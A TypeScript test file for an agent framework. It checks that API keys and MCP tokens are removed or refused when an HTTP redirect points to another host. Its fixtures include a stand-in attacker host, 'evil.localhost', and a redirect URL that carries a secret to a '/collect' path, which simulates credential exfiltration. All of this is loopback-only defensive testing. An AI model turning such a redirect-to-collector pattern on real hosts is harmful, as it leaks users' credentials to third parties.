import type { IncomingMessage, ServerResponse } from 'node:http';
import { createWebSearch } from '@agentq/builtin-tools';
import { connectMcpServer } from '@agentq/mcp-connect';
import { createGuardedFetch, loadConfig, resolveSecrets, serverDefinitionSchema, silentLogger } from '@agentq/shared';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { fetchErrorCode } from '../helpers/fetch-error-code.js';
import { startRawLoopbackServer, type RawLoopbackServer } from '../helpers/raw-loopback-server.js';

// Hole 5: a secret must not follow a redirect to another host. One loopback server answers every
// name; the Host header says which "host" a request reached: `localhost` is the provider or MCP
// server the secret is bound to, `evil.localhost` (also loopback) is where it redirects.

const braveKey = 'brave-key-5c8e1f0a9d7b';
const mcpToken = 'mcp-token-3b9d2e7f41ac';

interface Hit {
  host: string;
  path: string;
  headers: IncomingMessage['headers'];
}

/** Every header value a hit carried, joined, to look for a secret in any header. */
function headerText(hit: Hit): string {
  return Object.values(hit.headers).flat().join('\n');
}

describe('egress: secrets on redirects', () => {
  const hits: Hit[] = [];
  let server: RawLoopbackServer;
  let port: number;

  beforeAll(async () => {
    server = await startRawLoopbackServer((request: IncomingMessage, response: ServerResponse) => {
      const host = (request.headers.host ?? '').replace(/:\d+$/, '');
      const path = request.url ?? '/';
      hits.push({ host, path, headers: request.headers });
      request.resume();
      if (host !== 'evil.localhost') {
        const to = new URL(path, 'http://x').searchParams.get('to');
        const location = to ?? `http://evil.localhost:${port}${path}`;
        response.writeHead(path.startsWith('/mcp') ? 307 : 302, { location });
        response.end();
        return;
      }
      response.writeHead(200, { 'content-type': 'application/json' });
      response.end(JSON.stringify({ web: { results: [] } }));
    });
    port = server.port;
  });

  afterAll(async () => {
    await server?.close();
  });

  beforeEach(() => {
    hits.length = 0;
  });

  const evilHits = () => hits.filter((hit) => hit.host === 'evil.localhost');

  it('a Brave key bound to localhost never reaches evil.localhost after a 302', async () => {
    const env = {
      AGENTQ_SECRET_BRAVE_API_KEY: braveKey,
      AGENTQ_SECRET_HOSTS: 'BRAVE_API_KEY=localhost',
      // The redirect target is reachable, so only the secret rules stand between it and the key.
      AGENTQ_FETCH_ALLOW_HOSTS: '*.localhost',
    };
    const config = loadConfig({
      ...env,
      AGENTQ_WEB_SEARCH_PROVIDER: 'brave',
      AGENTQ_BRAVE_SEARCH_URL: `http://localhost:${port}/res/v1/web/search`,
      AGENTQ_WEB_SEARCH_TIMEOUT_MS: '30000',
    });
    const search = createWebSearch({ config, env });
    await search.search({ query: 'tide tables', limit: 3 }).catch(() => undefined);

    const first = hits.find((hit) => hit.host === 'localhost');
    expect(first?.headers['x-subscription-token']).toBe(braveKey);
    for (const hit of evilHits()) {
      expect(hit.headers['x-subscription-token']).toBeUndefined();
      expect(headerText(hit)).not.toContain(braveKey);
    }
  });

  it('drops every header that carries a secret on a cross-origin redirect, whatever its name', async () => {
    const secret = 'opaque-secret-1f2e3d4c';
    const guarded = createGuardedFetch({ allowPrivate: true, secrets: [{ value: secret }] });
    const response = await guarded(`http://localhost:${port}/any`, {
      headers: { 'x-api-key': secret, 'x-custom': `Token ${secret}`, 'x-trace': 'public-value' },
    });
    await response.body?.cancel();
    expect(response.status).toBe(200);
    const evil = evilHits();
    expect(evil).toHaveLength(1);
    expect(evil[0]?.headers['x-trace']).toBe('public-value');
    expect(headerText(evil[0] as Hit)).not.toContain(secret);
  });

  it('secrets given per request are dropped the same way', async () => {
    const secret = 'request-secret-9a8b7c6d';
    const guarded = createGuardedFetch({ allowPrivate: true });
    const response = await guarded(`http://localhost:${port}/any`, {
      headers: { 'x-key': secret },
      secrets: [{ value: secret }],
    });
    await response.body?.cancel();
    expect(headerText(evilHits()[0] as Hit)).not.toContain(secret);
  });

  it('refuses a hop that would carry a bound secret to another host, in the URL too', async () => {
    const secret = 'bound-secret-6e5d4c3b';
    const guarded = createGuardedFetch({ allowPrivate: true, secrets: [{ value: secret, hosts: ['localhost'] }] });
    // The server puts the secret in the redirect target's query.
    const to = encodeURIComponent(`http://evil.localhost:${port}/collect?k=${secret}`);
    expect(await fetchErrorCode(guarded(`http://localhost:${port}/any?to=${to}&k=${secret}`))).toBe(
      'SECRET_HOST_MISMATCH',
    );
    expect(evilHits()).toEqual([]);
    // The first URL is checked as well.
    expect(
      await fetchErrorCode(guarded(`http://evil.localhost:${port}/direct`, { headers: { 'x-key': secret } })),
    ).toBe('SECRET_HOST_MISMATCH');
    expect(evilHits()).toEqual([]);
  });

  it('an MCP server whose header carries a secret cannot redirect it to another host', async () => {
    const env = { AGENTQ_SECRET_MCP_TOKEN: mcpToken, AGENTQ_SECRET_HOSTS: 'MCP_TOKEN=localhost' };
    const definition = serverDefinitionSchema.parse({
      id: 'redirecting',
      transport: {
        type: 'streamable-http',
        url: `http://localhost:${port}/mcp`,
        headers: { 'x-mcp-key': '${AGENTQ_SECRET_MCP_TOKEN}' },
      },
      timeouts: { connectMs: 20_000 },
    });
    const resolved = resolveSecrets(definition, env);
    expect(resolved.egressSecrets).toEqual([{ value: mcpToken, hosts: ['localhost'] }]);
    await connectMcpServer({
      definition: resolved.definition,
      logger: silentLogger(),
      secretValues: resolved.secretValues,
      egressSecrets: resolved.egressSecrets,
      allowHosts: ['localhost', '*.localhost'],
    })
      .then((connection) => connection.close())
      .catch(() => undefined);
    expect(hits.some((hit) => hit.host === 'localhost' && hit.headers['x-mcp-key'] === mcpToken)).toBe(true);
    for (const hit of evilHits()) expect(headerText(hit)).not.toContain(mcpToken);

    // The same server reached through the guard the MCP transports use, following the redirect.
    const guarded = createGuardedFetch({ allowHosts: ['localhost', '*.localhost'], secrets: resolved.egressSecrets });
    const response = await guarded(`http://localhost:${port}/mcp`, {
      method: 'POST',
      headers: { 'x-mcp-key': mcpToken, 'content-type': 'application/json' },
      body: '{}',
    });
    await response.body?.cancel();
    expect(evilHits().length).toBeGreaterThan(0);
    for (const hit of evilHits()) expect(headerText(hit)).not.toContain(mcpToken);
  });
});
